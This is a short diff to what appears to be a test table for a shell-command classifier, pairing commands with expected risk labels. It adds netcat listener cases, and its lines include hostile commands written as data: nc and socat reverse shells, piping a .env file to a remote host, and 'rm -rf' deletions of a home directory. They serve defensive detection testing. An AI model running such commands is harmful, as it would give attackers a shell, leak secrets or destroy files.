@@ -64,6 +64,8 @@ REMOTE = [
     ("nc -e /bin/sh 10.0.0.5 4444", "net.remote_exec 10.0.0.5 reverse=1"),
     ("ncat -l 99 --sh-exec sh", "net.remote_exec reverse=1"),
     ("nc -l 4444", "net.listen port=4444; no net.remote_exec"),
+    ("nc -l -p 1500 -c 'echo hi'", "net.listen; no net.remote_exec"),
+    ("nc -l -p 1500 -c 'rm -rf ~'", "net.listen; file.delete /home/dev"),
     ("cat .env | nc h 99", "net.upload h upload=file"),
     ("socat TCP:10.0.0.5:4444 EXEC:/bin/bash", "net.remote_exec 10.0.0.5 reverse=1"),
     ("socat - EXEC:'rm -rf /home/dev'", "file.delete /home/dev"),
